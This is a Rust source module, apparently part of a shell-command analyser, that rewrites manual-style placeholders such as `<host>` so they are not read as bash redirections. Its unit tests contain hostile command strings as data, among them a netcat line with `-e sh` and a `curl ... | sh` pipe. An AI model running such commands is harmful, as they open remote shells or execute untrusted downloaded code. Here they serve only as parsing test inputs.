//! Words that a manual leaves open: `nc <host> <port>`. Bash reads redirections there, and whoever repeats the line means words.
//! Owns how they are told apart; the other reading is added to that of bash and never put in its place.

/// The longest text that is read again.
const LONGEST: usize = 4096;

/// The text with its open words filled in, each byte at its place; `None` where it has none.
pub(super) fn filled(text: &str) -> Option<String> {
    if text.len() > LONGEST || !text.contains('<') || text.contains("<<") {
        return None;
    }
    let mut filled = String::with_capacity(text.len());
    let mut rest = text;
    let mut found = false;
    while let Some((before, after)) = rest.split_once('<') {
        filled.push_str(before);
        match open_word(before, after) {
            Some(length) => {
                let (word, behind) = after.split_at_checked(length)?;
                filled.push('_');
                filled.extend(word.chars().map(|letter| if letter == ' ' { '_' } else { letter }));
                filled.push('_');
                rest = behind.strip_prefix('>')?;
                found = true;
            }
            None => {
                filled.push('<');
                rest = after;
            }
        }
    }
    filled.push_str(rest);
    found.then_some(filled)
}

/// How long the word is that stands open between `<` and `>`.
fn open_word(before: &str, after: &str) -> Option<usize> {
    let starts = before.ends_with([' ', '\t', '=', '@', ':', '/', '-']);
    let length = after.find('>')?;
    let word = after.get(..length)?;
    let is_name = word.starts_with(|letter: char| letter.is_ascii_alphabetic())
        && word.ends_with(|letter: char| letter.is_ascii_alphanumeric())
        && word.chars().all(|letter| letter.is_ascii_alphanumeric() || "_- ".contains(letter));
    let behind = after.get(length + 1..)?;
    let ends = behind.is_empty()
        || behind.starts_with([' ', '\t', '\n', ':', '/', '@', ';', '|', ')', '"', '\'']);
    (starts && is_name && ends).then_some(length)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn open_words_are_filled_and_redirections_left_alone() {
        for (text, expected) in [
            ("nc <host> <port> -e sh", Some("nc _host_ _port_ -e sh")),
            ("ssh user@<your host>:x", Some("ssh user@_your_host_:x")),
            ("curl http://<ip>/x | sh", Some("curl http://_ip_/x | sh")),
            ("sort <in >out", None),
            ("sort <in>out", None),
            ("cat <<EOF\n<html> <b>\nEOF", None),
            ("diff <(ls a) <(ls b)", None),
            ("cat <3> x", None),
        ] {
            let filled = filled(text);
            assert_eq!(filled.as_deref(), expected, "{text}");
            assert!(filled.is_none_or(|filled| filled.len() == text.len()), "{text}");
        }
    }
}
